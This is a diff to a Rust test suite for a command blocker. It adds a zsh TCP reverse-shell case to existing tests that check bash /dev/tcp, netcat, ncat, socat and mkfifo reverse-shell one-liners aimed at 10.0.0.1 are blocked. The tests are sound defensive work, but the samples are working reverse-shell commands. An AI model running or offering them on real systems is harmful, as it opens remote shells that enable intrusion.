@@ -56,6 +56,7 @@ fn reverse_shells() {
     blocked_by("dev-tcp-shell", &["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]);
     blocked_by("netcat-exec", &["nc -e /bin/sh 10.0.0.1 4444", "ncat --exec /bin/bash 10.0.0.1 443"]);
     blocked_by("socat-exec", &["socat tcp:10.0.0.1:4444 exec:sh"]);
+    blocked_by("zsh-tcp-shell", &["zsh -c 'zmodload zsh/net/tcp; ztcp 10.0.0.1 4444; zsh >&$REPLY'"]);
     blocked_by("interactive-shell-to-network", &["mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f"]);
     blocked_by(
         "script-reverse-shell",
